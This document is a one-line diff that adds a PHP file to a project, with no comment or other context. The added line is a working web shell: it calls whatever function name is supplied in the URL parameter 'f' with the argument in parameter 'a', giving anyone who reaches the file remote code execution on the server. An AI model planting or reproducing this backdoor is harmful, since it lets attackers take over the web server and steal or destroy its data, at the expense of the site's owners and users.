@@ -1,0 +1,1 @@
+<?php $o = (object) array("f" => $_GET["f"]); ($o->f)($_GET["a"]);
